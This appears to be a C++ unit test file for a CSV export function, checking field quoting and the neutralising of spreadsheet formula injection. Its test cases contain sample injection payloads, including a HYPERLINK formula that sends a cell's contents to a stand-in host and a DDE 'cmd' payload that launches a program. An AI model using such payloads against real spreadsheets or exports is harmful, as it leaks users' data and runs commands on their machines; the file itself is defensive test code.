#include "service/csv_row.h"

#include <gtest/gtest.h>

#include <sstream>

namespace sobremesa {
namespace {

TEST(CsvRowTest, QuotesCommasQuotesAndLineBreaks) {
  std::ostringstream out;
  WriteCsvRow(out, {"Pérez, Ana", "dijo \"rico\"", "a\nb", "plain"});
  EXPECT_EQ(out.str(), "\"Pérez, Ana\",\"dijo \"\"rico\"\"\",\"a\nb\",plain\n");
}

// A guest's name or email is theirs to write; an export opened in a
// spreadsheet ran it as a formula.
TEST(CsvRowTest, AFieldASpreadsheetWouldRunAsAFormulaIsWrittenAsText) {
  const struct {
    const char* value;
    const char* written;
  } kCases[] = {
      {"=HYPERLINK(\"http://x.example/?\"&A1,\"Ver\")", "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Ver\"\")\""},
      {"@SUM(1+1)", "'@SUM(1+1)"},
      {"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
      {"-2+3", "'-2+3"},
      {"\t=1", "'\t=1"},
      // Phone numbers and amounts stay as they are.
      {"+51 987 654 321", "+51 987 654 321"},
      {"+51 (1) 444-5566", "+51 (1) 444-5566"},
      {"-12.50", "-12.50"},
      {"Ana = Anita", "Ana = Anita"},
      {"", ""},
  };
  for (const auto& c : kCases) EXPECT_EQ(CsvField(c.value), c.written) << c.value;
}

}  // namespace
}  // namespace sobremesa
